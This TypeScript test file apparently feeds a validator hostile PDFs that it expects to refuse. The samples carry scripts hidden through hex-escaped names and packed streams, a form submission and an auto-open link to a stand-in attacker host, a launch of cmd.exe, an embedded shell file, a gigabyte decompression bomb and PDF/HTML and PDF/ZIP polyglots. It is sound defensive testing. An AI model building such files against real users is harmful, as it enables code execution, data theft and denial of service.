import { Buffer } from 'node:buffer';
import { deflateSync } from 'node:zlib';
import { html, repeated, shell, text, zip } from './hostile-bytes.js';
import type { HostileFile } from './hostile-files.js';
import { makePdf, pdfStream } from './pictures.js';

const action = '<< /S /JavaScript /JS (app.alert(1)) >>';
const packedObjects = (objects: string) =>
  pdfStream(`/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode`, deflateSync(text(`9 0 ${objects}`)));

export const hostilePdfs: readonly HostileFile[] = [
  {
    what: 'a PDF with a script',
    make: () => makePdf({ catalogue: '/Names 4 0 R', objects: [action] }),
    ends: 'file_type_refused',
  },
  {
    what: 'a PDF that runs something when opened',
    make: () =>
      makePdf({ catalogue: '/OpenAction 4 0 R', objects: ['<< /S /URI /URI (http://evil.example) >>'] }),
    ends: 'file_type_refused',
  },
  {
    what: 'a PDF that starts a program',
    make: () => makePdf({ objects: ['<< /S /Launch /F (cmd.exe) >>'] }),
    ends: 'file_type_refused',
  },
  {
    what: 'a PDF with a file in it',
    make: () => makePdf({ objects: [pdfStream('/Type /EmbeddedFile', shell)] }),
    ends: 'file_type_refused',
  },
  {
    what: 'a PDF that sends a form away',
    make: () => makePdf({ objects: ['<< /S /SubmitForm /F (http://evil.example) >>'] }),
    ends: 'file_type_refused',
  },
  {
    what: 'a PDF with a film in it',
    make: () => makePdf({ objects: ['<< /Subtype /RichMedia >>'] }),
    ends: 'file_type_refused',
  },
  {
    what: 'a PDF that nobody can look into',
    make: () => makePdf({ objects: ['<< /Encrypt 9 0 R >>'] }),
    ends: 'file_type_refused',
  },
  {
    what: 'a PDF that spells its script otherwise',
    make: () => makePdf({ objects: ['<< /S /J#61v#61Scr#69pt /#4A#53 (app.alert(1)) >>'] }),
    ends: 'file_type_refused',
  },
  {
    what: 'a PDF with a script among packed objects',
    make: () => makePdf({ objects: [packedObjects(action)] }),
    ends: 'file_type_refused',
  },
  {
    what: 'a PDF with a script in a stream that calls itself nothing',
    make: () =>
      makePdf({
        objects: [pdfStream('/N 1 /First 4 % endstream (stream)', deflateSync(text(`9 0 ${action}`)))],
      }),
    ends: 'file_type_refused',
  },
  {
    what: 'a PDF with objects packed in a way of their own',
    make: () =>
      makePdf({
        objects: [
          pdfStream(
            '/Type /ObjStm /N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode]',
            text(deflateSync(text(action)).toString('hex')),
          ),
        ],
      }),
    ends: 'file_type_refused',
  },
  {
    what: 'a PDF with a stream that unpacks to a gigabyte',
    make: () =>
      makePdf({ objects: [pdfStream('/Filter /FlateDecode', deflateSync(Buffer.alloc(1_000_000_000)))] }),
    ends: 'file_type_refused',
  },
  {
    what: 'a PDF that is a page of the web too',
    make: () => makePdf({ objects: [pdfStream('', html)] }),
    ends: 'file_type_refused',
  },
  { what: 'a PDF that is an archive too', make: () => pdfAndArchive(), ends: 'file_type_refused' },
  {
    what: 'a PDF with a hundred thousand streams',
    make: () => makePdf({ objects: [repeated(text('stream\n'), 700_000)] }),
    ends: 'file_type_refused',
  },
];

/** An archive inside a stream, whose comment is all the rest of the PDF. */
function pdfAndArchive(): Buffer {
  const place = makePdf({ objects: [pdfStream('', zip('a.sh', shell))] });
  const start = place.indexOf('PK\x03\x04', 0, 'latin1');
  const end = place.indexOf('PK\x05\x06', 0, 'latin1');
  const archive = zip('a.sh', shell, start, place.length - end - 22);
  return Buffer.concat([place.subarray(0, start), archive, place.subarray(end + 22)]);
}
